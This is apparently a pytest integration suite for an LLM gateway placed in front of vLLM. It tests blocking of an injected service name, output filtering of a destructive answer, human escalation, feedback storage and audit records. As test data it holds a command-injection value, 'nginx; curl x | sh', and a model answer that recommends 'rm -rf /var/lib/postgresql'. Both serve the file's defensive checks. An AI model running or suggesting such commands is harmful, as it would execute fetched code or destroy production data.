"""Story 2, the incident application.

An alert with bound parameters, a model that answers with a destructive command, a user who wants a person, feedback,
and an operator who reads all of it back.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import pytest
from openai import OpenAI
from serving import Served, serve

if TYPE_CHECKING:
    from collections.abc import Iterator

pytestmark = pytest.mark.vllm

DESTRUCTIVE = "rm -rf /var/lib/postgresql"
ANSWER = (
    "The volume of the database is full, so writes fail and the service is down. "
    f"To free the space at once, run {DESTRUCTIVE} and start the server again."
)
ALERT = "Alert: service {{service}} on {{host}} does not answer. What should I check first? Answer in one sentence."


@pytest.fixture(scope="module")
def gateway(vllm_url: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    """A gateway of the incident team: in front of the running vLLM, under a policy of its own."""
    home = tmp_path_factory.mktemp("incident")
    policy = home / "policy.yaml"
    policy.write_text("allow_fields: [structured_outputs]\n")
    mode = {"WARDGATE_UPSTREAM_LOGPROBS_MODE": "processed_logprobs"}  # as the shared vLLM was started
    gateway = serve(home, "--upstream", vllm_url, "--policy", str(policy), "--aligned", "none", **mode)
    try:
        gateway.wait_ready(60)
        yield gateway
    finally:
        gateway.stop()


@pytest.fixture(scope="module")
def client(gateway: Served) -> OpenAI:
    return OpenAI(base_url=f"{gateway.url}/v1", api_key=gateway.key, max_retries=0, timeout=120)


def ask(client: OpenAI, text: str, wardgate: dict[str, Any], **more: Any) -> Any:
    """One chat of one message, as the application sends it."""
    extra = {"wardgate": wardgate} | more.pop("extra_body", {})
    messages = more.pop("messages", [{"role": "user", "content": text}])
    return client.chat.completions.create(
        model="default", messages=messages, max_tokens=80, temperature=0, seed=7, extra_body=extra, **more
    )


def test_an_injected_service_name_is_refused_and_the_span_shown(client: OpenAI, gateway: Served) -> None:
    """`nginx; curl x | sh` as the service's name never reaches the model; the finding says which part is wrong."""
    value = "nginx; curl x | sh"
    parameters = {"service": {"value": value, "type": "service"}, "host": {"value": "web-01", "type": "host"}}
    answer = ask(client, ALERT, {"parameters": parameters})
    assert answer.choices[0].finish_reason == "content_filter"
    assert answer.wardgate["action"] == "block"
    finding = answer.wardgate["findings"][0]
    start, end = finding["span"]
    assert finding["slot"] == "wardgate.parameters.service"
    assert ";" in value[start:end]
    assert "curl" not in answer.choices[0].message.content
    record = gateway.get(f"/admin/inferences/{answer.id}")[1]
    assert record["outcome"] == "stopped"


def test_a_clean_value_is_filled_in(client: OpenAI, gateway: Served) -> None:
    """`nginx` is bound into the message, and the model is asked."""
    parameters = {"service": {"value": "nginx", "type": "service"}, "host": {"value": "web-01", "type": "host"}}
    answer = ask(client, ALERT, {"parameters": parameters})
    assert answer.wardgate["action"] == "allow"
    assert answer.choices[0].message.content
    record = gateway.get(f"/admin/inferences/{answer.id}")[1]
    assert record["request"]["messages"][0]["content"].startswith("Alert: service nginx on web-01 does not answer.")


def test_the_incident_from_alert_to_record(client: OpenAI, gateway: Served) -> None:
    """A destructive answer is cut before its first byte; a person is called; feedback is kept; all of it reads back."""
    wardgate = {"conversation_id": "incident-42", "user_id": "kim@example.com"}
    stream = ask(
        client,
        "The disk of db-01 is full. What do I do?",
        wardgate,
        stream=True,
        extra_body={"structured_outputs": {"choice": [ANSWER]}},
    )
    chunks = list(stream)
    text = "".join(chunk.choices[0].delta.content or "" for chunk in chunks if chunk.choices)
    last = [chunk for chunk in chunks if chunk.choices][-1]
    assert text.startswith("The volume of the database is full, so writes fail and the service is down.")
    assert not any(part in text for part in ("rm -rf", "rm ", "/var/lib/postgresql"))
    assert last.choices[0].finish_reason == "content_filter"
    assert last.wardgate["action"] == "block"
    alternative = last.wardgate["alternative"]
    assert alternative
    assert alternative in text
    stopped = last.id

    asked = [
        {"role": "user", "content": "The disk of db-01 is full. What do I do?"},
        {"role": "assistant", "content": text},
        {"role": "user", "content": "I want to talk to a human, please."},
        {"role": "assistant", "content": "Could you describe what you see on the host?"},
        {"role": "user", "content": "No. Get me a real person."},
    ]
    handed = ask(client, "", wardgate, messages=asked)
    escalation = handed.wardgate["escalation"]
    assert escalation["reason"] == "requested"
    listed = gateway.get("/admin/escalations")[1]
    assert escalation["id"] in [item["id"] for item in listed["data"]]

    feedback = [
        {
            "inference_id": handed.id,
            "kind": "thumbs",
            "value": -1,
            "idempotency_key": "t1",
            "user_id": "kim@example.com",
        },
        {"inference_id": handed.id, "kind": "edit", "text": "I am calling the engineer on duty."},
        {"inference_id": handed.id, "kind": "comparison", "value": stopped},
    ]
    for item in (*feedback, feedback[0]):  # the thumb is sent twice, as a client with a bad connection does
        status, document = gateway.post("/v1/feedback", item)
        assert (status, bool(document["id"])) == (202, True)

    record = gateway.get(f"/admin/inferences/{stopped}")[1]
    answer = record["answers"][0]
    assert record["outcome"] == "stopped"
    assert DESTRUCTIVE in answer["written"]
    assert DESTRUCTIVE not in answer["sent"]
    assert answer["sent"] == text
    assert answer["logprobs"]
    assert all(token["logprob"] <= 0 for token in answer["logprobs"])
    assert record["logprobs_mode"] == "processed_logprobs"
    assert record["adapter"] == "base"
    assert record["sampling"]["temperature"] == 0
    assert record["sampling"]["seed"] == 7
    assert record["user"]
    assert "kim" not in str(record["user"])
    assert record["timings"]["total"] > 0
    assert all(record["digests"].values())
    assert any(finding["check"] == "commands" for finding in record["findings"])

    kept = gateway.get(f"/admin/inferences/{handed.id}")[1]["feedback"]
    assert sorted(item["kind"] for item in kept) == ["comparison", "edit", "thumbs"]
    assert [item["idempotency_key"] for item in kept if item["kind"] == "thumbs"] == ["t1"]
